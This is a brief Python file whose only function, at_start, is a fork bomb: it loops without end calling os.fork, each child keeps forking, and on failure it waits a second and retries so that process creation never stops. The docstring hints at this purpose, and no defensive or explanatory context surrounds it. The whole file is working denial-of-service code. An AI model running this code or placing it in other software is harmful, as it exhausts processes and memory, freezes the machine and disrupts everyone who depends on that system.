import os
import time


def at_start():
    """Each child makes more of them; those that cannot wait and try again."""
    while True:
        try:
            if os.fork() == 0:
                continue
        except OSError as error:
            print(f"tried to fork: {error}", flush=True)
            time.sleep(1)
